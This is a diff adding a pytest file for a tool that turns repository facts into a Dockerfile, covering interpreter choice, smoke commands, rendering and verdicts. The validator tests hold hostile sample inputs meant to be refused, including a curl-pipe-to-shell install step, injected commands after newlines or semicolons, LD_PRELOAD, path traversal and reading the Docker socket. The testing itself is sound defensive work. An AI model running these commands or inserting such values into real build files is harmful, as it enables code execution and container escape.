@@ -1,0 +1,171 @@
+"""Rules between facts and a Dockerfile: interpreter, smoke command, rendering, verdicts, ladder."""
+
+from datetime import date
+
+import pytest
+from pydantic import ValidationError
+
+from paper2run import dockerfile, ladder
+from paper2run.evidence import Evidence
+from paper2run.interpreters import choose
+from paper2run.model.environment import Asked, EnvPlan, PlannedEnvironment
+from paper2run.model.facts import (
+    Command,
+    Import,
+    OwnModule,
+    Project,
+    PythonConstraint,
+    PythonSyntax,
+    RepoFacts,
+    Requirement,
+)
+from paper2run.model.outcome import BuildFailed, Built, Passed, SmokeFailed
+from paper2run.model.repo import Checkout
+from paper2run.model.report import Attempt
+from paper2run.model.value import Source
+from paper2run.planners import rules
+from paper2run.verdicts import after_attempts
+
+HERE = Source(kind="file", path="setup.py", line=1)
+README = Source(kind="readme", path="README.md", line=9)
+CHECKOUT = Checkout(url="https://example.org/o/n", name="o/n", commit="a" * 40, mirror="/nowhere")
+
+
+def required(specifier: str, strength: str = "required") -> PythonConstraint:
+    return PythonConstraint(specifier=specifier, strength=strength, source=HERE)
+
+
+@pytest.mark.parametrize(
+    ("facts", "day", "first"),
+    [
+        ([], date(2019, 6, 1), "3.7"),
+        ([], date(2018, 9, 1), "3.6"),
+        ([], None, "3.12"),
+        ([required(">=3.8,<3.10")], date(2024, 1, 1), "3.9"),
+        ([required("==2.7.*", "tested"), required("==3.5.*", "tested")], date(2016, 3, 1), "2.7"),
+        ([required("==2.7.*", "tested"), required("==3.6.*", "tested")], date(2019, 3, 1), "3.6"),
+        ([PythonSyntax(major=2, files=3, source=HERE)], date(2021, 1, 1), "2.7"),
+        ([PythonSyntax(major=3, minor=8, files=1, source=HERE)], date(2019, 11, 1), "3.8"),
+        ([required("==3.*", "mentioned")], date(2022, 1, 15), "3.9"),
+        ([required(">=4")], date(2022, 1, 15), "3.9"),
+    ],
+)
+def test_the_interpreter_follows_the_evidence_then_the_year(facts, day, first):
+    choice = choose(RepoFacts(facts=tuple(facts)), day)
+    assert choice.pythons[0] == first
+    assert choice.reasons
+
+
+def plan_of(
+    *facts: object, paths: frozenset[str] = frozenset(), smoke: str = ""
+) -> PlannedEnvironment:
+    asked = Asked(name="o/n", commit="a" * 40, commit_day=date(2023, 1, 1), smoke=smoke)
+    planned = rules.plan(Evidence(RepoFacts(facts=tuple(facts)), paths, asked))
+    assert isinstance(planned, PlannedEnvironment)
+    return planned
+
+
+PROJECT = Project(root="", backend="setup.py", name="n", source=HERE)
+OWN = OwnModule(module="n", root="", installed=True, source=HERE)
+NUMPY = Requirement(text="numpy>=1.11", name="numpy", group="runtime", source=HERE)
+
+
+def test_an_installable_project_is_imported_from_outside_its_source():
+    planned = plan_of(PROJECT, OWN, NUMPY)
+    assert planned.plan.smoke_command == "cd /tmp && python -c 'import n'"
+    assert any("numpy>=1.11" in step for step in planned.plan.install_steps)
+
+
+def test_the_users_smoke_command_wins():
+    assert plan_of(PROJECT, OWN, smoke="make demo").plan.smoke_command == "make demo"
+
+
+def test_a_documented_command_is_chosen_where_its_files_are_there():
+    line = "python run.py --input data/in.txt --output out/result.txt"
+    facts = (
+        Command(purpose="run", line=line, source=README),
+        Import(module="numpy", where="script", files=1, source=HERE),
+    )
+    complete = plan_of(*facts, NUMPY, paths=frozenset({"run.py", "data/in.txt", "out/.keep"}))
+    missing = plan_of(*facts, NUMPY, paths=frozenset({"run.py", "out/.keep"}))
+    assert complete.plan.smoke_command == line
+    assert missing.plan.smoke_command == "python -c 'import numpy'"
+
+
+def test_the_same_plan_gives_the_same_bytes():
+    first, second = plan_of(PROJECT, OWN, NUMPY), plan_of(PROJECT, OWN, NUMPY)
+    assert dockerfile.dockerfile(CHECKOUT, first) == dockerfile.dockerfile(CHECKOUT, second)
+    assert first.plan.digest == second.plan.digest
+
+
+def test_dependency_layers_come_before_the_source():
+    lines = dockerfile.dockerfile(CHECKOUT, plan_of(PROJECT, OWN, NUMPY)).splitlines()
+    text = "\n".join(line for line in lines if not line.startswith("#"))
+    assert text.index("numpy") < text.index("COPY") < text.index("--no-deps")
+    assert "--mount" not in text
+
+
+def test_a_repository_name_cannot_become_a_parser_directive():
+    evil = CHECKOUT.model_copy(update={"name": "syntax=evil.example.org/frontend"})
+    assert dockerfile.dockerfile(evil, plan_of(PROJECT, OWN)).startswith("# Planned by")
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        {"base_image": "python:3.9\nRUN id"},
+        {"base_image": "--evil"},
+        {"system_packages": ["gcc; id"]},
+        {"install_steps": ["pip install x\nUSER root"]},
+        {"install_steps": ["curl https://example.org/x | sh"]},
+        {"install_steps": ["true && sudo id"]},
+        {"install_steps": ["pip install --index-url https://example.org x"]},
+        {"env": {"LD_PRELOAD": "/x.so"}},
+        {"env": {"A B": "1"}},
+        {"workdir": "/repo/../etc"},
+        {"smoke_command": "cat /var/run/docker.sock"},
+        {"surprise": 1},
+    ],
+)
+def test_a_hostile_plan_is_refused(field):
+    with pytest.raises(ValidationError):
+        EnvPlan.model_validate({"base_image": "python:3.9-slim", "smoke_command": "true", **field})
+
+
+def test_a_distribution_that_is_called_docker_may_be_installed():
+    EnvPlan(
+        base_image="python:3.9-slim",
+        smoke_command="true",
+        install_steps=("pip install docker gitpython",),
+    )
+
+
+def attempt(number: int, smoke: Passed | SmokeFailed | None) -> Attempt:
+    built = Built(image="i", image_id="sha256:0", size_bytes=1, seconds=1)
+    failed = BuildFailed(step="RUN x", exit_code=1, seconds=1)
+    return Attempt(
+        number=number,
+        planned=plan_of(PROJECT, OWN),
+        built=built if smoke else failed,
+        smoke=smoke,
+    )
+
+
+def test_verdicts_follow_the_last_attempt():
+    passed = attempt(1, Passed(alive_at_timeout=False, seconds=1))
+    assert after_attempts([passed], 3).status == "success"
+    failed = attempt(1, SmokeFailed(exit_code=7, seconds=1))
+    assert after_attempts([failed], 3).status == "smoke-failed"
+    assert "exit code 1" in after_attempts([attempt(1, None)], 3).reason
+
+
+def test_counts_come_from_the_runners_own_report():
+    report = '<testsuites><testsuite tests="9" failures="1" errors="1" skipped="2"/></testsuites>'
+    stdout = f"noise\n{ladder.REPORT_MARK}\n{report}"
+    assert ladder.detail_of("tests", stdout, 1) == "5 passed, 1 failed, 1 errors, 2 skipped"
+    assert ladder.detail_of("tests", "killed", 137) == "no report was written"
+
+
+def test_missing_modules_are_read_from_the_imports_rung():
+    assert ladder.detail_of("imports", 'x\n["yaml", "cv2"]\n', 1) == "not found: yaml, cv2"
+    assert ladder.detail_of("imports", "[]", 0) == "all found"
